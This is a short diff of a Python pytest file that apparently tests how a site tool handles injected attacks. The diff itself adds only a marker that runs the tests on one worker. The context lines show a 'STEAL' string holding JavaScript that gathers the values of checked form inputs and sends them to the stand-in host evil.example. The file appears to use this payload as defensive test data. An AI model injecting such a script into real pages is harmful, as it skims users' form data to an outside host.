@@ -31,6 +31,9 @@ import pytest
 
 from tools.site import ROOT, copy_project
 
+# Every test here reads the one `results` fixture: they run on one pytest worker (--dist loadgroup).
+pytestmark = pytest.mark.xdist_group("attacks")
+
 STEAL = (
     "document.addEventListener('change',function(){var a=[].map.call(document.querySelectorAll('input:checked'),"
     "function(i){return i.value});fetch('https://evil.example/c?a='+a.join(','),{mode:'no-cors'});"
